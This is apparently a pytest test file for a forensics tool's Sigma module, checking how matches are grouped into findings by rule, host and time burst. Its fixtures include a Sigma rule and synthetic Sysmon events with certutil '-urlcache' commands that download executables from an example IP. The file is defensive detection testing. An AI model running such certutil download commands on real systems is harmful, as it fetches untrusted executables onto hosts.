"""``sigma.findings``: a run's matches as story findings, one per (rule, host, burst), with exact values;
``sigma.default_rules`` from ``$FORENSICS_SIGMA_RULES``."""

from __future__ import annotations

import datetime as dt
import os
from pathlib import Path

import pandas as pd
import pytest
import yaml

import forensics
from collectors.evtx_writer import Event, write_evtx

pytest.importorskip("sigma")
from forensics import sigma  # noqa: E402

UTC = dt.timezone.utc
T0 = dt.datetime(2022, 11, 23, 1, 30, tzinfo=UTC)
RULE = {"title": "Certutil download", "id": "6f8ae2b2-7f0e-4d3c-9a51-2f5c0f2b7a11", "status": "test",
        "logsource": {"product": "windows", "category": "process_creation"}, "level": "high",
        "tags": ["attack.command-and-control", "attack.t1105", "attack.s0160", "attack.defense-evasion",
                 "attack.t1027.013"],
        "detection": {"selection": {"Image|endswith": r"\certutil.exe", "CommandLine|contains": "-urlcache"},
                      "condition": "selection"}}
NO_TAGS = {**RULE, "title": "Certutil, untagged", "id": "0d2c3f4a-1b5e-4c6d-8e7f-9a0b1c2d3e4f", "tags": [],
           "level": "medium"}


def _event(minutes: float, host: str, command: str) -> Event:
    return Event(1, T0 + dt.timedelta(minutes=minutes), "Microsoft-Windows-Sysmon",
                 "Microsoft-Windows-Sysmon/Operational", host,
                 event_data={"Image": r"C:\Windows\System32\certutil.exe", "CommandLine": command})


@pytest.fixture(scope="module")
def burst_case(tmp_path_factory):
    root = tmp_path_factory.mktemp("sigma-findings")
    (root / "rules").mkdir()
    (root / "rules" / "certutil.yml").write_text(yaml.safe_dump(RULE))
    (root / "evidence").mkdir()
    write_evtx(root / "evidence" / "Microsoft-Windows-Sysmon%4Operational.evtx", [
        _event(0, "WKS-01", "certutil -urlcache -f http://198.51.100.7/a a.exe"),  # record 1: WKS-01 burst 1
        _event(5, "SRV-02", "certutil -urlcache -f http://198.51.100.7/b b.exe"),  # record 2: SRV-02
        _event(10, "WKS-01", "certutil -urlcache -f http://198.51.100.7/c c.exe"),  # record 3: WKS-01 burst 1
        _event(20, "WKS-01", "certutil -hashfile a.exe"),  # record 4: not a match
        _event(90, "WKS-01", "certutil -urlcache -f http://198.51.100.7/d d.exe"),  # record 5: 80 min later
    ])
    case = forensics.Case(root / "case", create=True)
    case.collect([root / "evidence"], workers=1)
    return case, root / "rules"


def test_matches_grouped_in_bursts_per_rule_and_host(burst_case):
    case, rules = burst_case
    run = sigma.run(forensics.open(case.path), rules)
    f = sigma.findings(run)
    assert list(f.columns) == sigma.FINDING_COLUMNS == [
        "timestamp", "host", "level", "technique", "techniques", "finding", "detector", "rule_id", "title", "count",
        "first", "last", "evidence_id", "evidence_path", "record_ref"]
    t = pd.Timestamp(T0)
    got = [(r.timestamp, r.host, r.count, r.first, r.last, r.finding, r.record_ref.split()[0]) for r in f.itertuples()]
    assert got == [
        (t, "WKS-01", 2, t, t + pd.Timedelta("10min"), "Certutil download (2 events)", "record=1"),
        (t + pd.Timedelta("5min"), "SRV-02", 1, t + pd.Timedelta("5min"), t + pd.Timedelta("5min"),
         "Certutil download (1 event)", "record=2"),
        (t + pd.Timedelta("90min"), "WKS-01", 1, t + pd.Timedelta("90min"), t + pd.Timedelta("90min"),
         "Certutil download (1 event)", "record=5"),
    ]
    assert str(f["timestamp"].dt.tz) == "UTC"
    assert set(f["level"]) == {"high"} and set(f["detector"]) == {"sigma"} and set(f["rule_id"]) == {RULE["id"]}
    assert f["technique"].tolist() == ["T1105"] * 3  # the first ATT&CK technique of the tags (S0160 is software)
    assert f["techniques"].tolist() == [["T1105", "T1027.013"]] * 3
    assert f["evidence_path"].tolist() == ["Microsoft-Windows-Sysmon%4Operational.evtx"] * 3
    # a wider burst joins WKS-01's three matches (gaps 10 and 80 minutes < 2 h)
    wide = sigma.findings(run, burst="2h")
    assert [(r.host, r.count, r.record_ref.split()[0]) for r in wide.itertuples()] == [
        ("WKS-01", 3, "record=1"), ("SRV-02", 1, "record=2")]
    # a gap exactly equal to the burst length starts a new burst
    assert sigma.findings(run, burst="80min")["count"].tolist() == [2, 1, 1]


def test_a_dataframe_with_a_row_without_host_gives_the_unknown_host(burst_case, tmp_path):
    case, rules = burst_case
    (tmp_path / "untagged.yml").write_text(yaml.safe_dump(NO_TAGS))
    df = forensics.open(case.path).to_pandas()
    df["host"] = df["host"].astype(object)
    df.loc[df["record_ref"].str.startswith("record=2 "), "host"] = None
    run = sigma.run(df, tmp_path)
    f = sigma.findings(run)
    assert f["host"].tolist() == ["WKS-01", sigma.UNKNOWN_HOST, "WKS-01"] and sigma.UNKNOWN_HOST == "(unknown host)"
    assert f["technique"].tolist() == [None] * 3 and f["techniques"].tolist() == [[]] * 3
    assert f["level"].tolist() == ["medium"] * 3


def test_no_match_gives_an_empty_frame_with_the_columns(burst_case, tmp_path):
    case, _ = burst_case
    (tmp_path / "never.yml").write_text(yaml.safe_dump({**RULE, "detection": {
        "selection": {"Image|endswith": r"\never.exe"}, "condition": "selection"}}))
    f = sigma.findings(sigma.run(forensics.open(case.path), tmp_path))
    assert f.empty and list(f.columns) == sigma.FINDING_COLUMNS
    assert sigma.LEVELS == ("informational", "low", "medium", "high", "critical")


def test_default_rules_come_from_the_environment_only(monkeypatch, tmp_path):
    monkeypatch.delenv(sigma.RULES_ENV, raising=False)
    assert sigma.default_rules() == []
    monkeypatch.setenv("FORENSICS_SIGMA_RULES", f"{tmp_path / 'a'}{os.pathsep}{tmp_path / 'b'}")
    assert sigma.default_rules() == [tmp_path / "a", tmp_path / "b"]
    monkeypatch.setenv("FORENSICS_SIGMA_RULES", "")
    assert sigma.default_rules() == [] and isinstance(sigma.default_rules(), list)
    assert all(isinstance(p, Path) for p in sigma.default_rules())
